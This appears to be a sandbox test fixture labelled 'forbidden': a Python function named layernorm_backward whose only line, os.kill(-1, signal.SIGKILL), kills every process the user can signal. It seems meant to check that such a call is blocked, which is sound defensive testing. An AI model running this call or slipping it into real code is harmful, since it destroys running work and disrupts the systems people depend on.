# tries: signal every process
# item: signals to the parent
# outcome: forbidden
import os
import signal


def layernorm_backward(x, gamma, dy, eps):
    os.kill(-1, signal.SIGKILL)
